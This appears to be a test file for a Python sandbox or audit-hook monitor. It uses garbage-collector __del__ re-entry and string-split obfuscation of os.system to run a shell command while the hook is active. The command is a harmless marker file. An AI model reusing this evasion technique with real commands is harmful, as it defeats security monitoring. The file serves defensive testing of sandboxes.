# expect: python.process
# Run code inside the audit hook: __del__ of cyclic garbage runs whenever the
# collector does, which can be in the middle of the hook's own allocations. It acts
# only when called from the runner's frames. (Without a hook it acts at the end.)
import gc, inspect, os, sys


def j(*parts):
    return ''.join(parts)


state = {'done': False}


def payload():
    state['done'] = True
    getattr(os, j('sys', 'tem'))('touch /tmp/moat-pwned-gc_del_during_hook')


class Bomb:
    def __init__(self):
        self.me = self

    def __del__(self):
        frame = getattr(inspect.currentframe(), j('f_', 'back'))
        if frame is not None and frame.f_code.co_filename.endswith(('runner.py', 'runner.pyc')):
            payload()


gc.set_threshold(1, 1, 1)
for _ in range(50000):
    Bomb()
    inspect.currentframe()
    if state['done']:
        break
if not state['done']:
    payload()
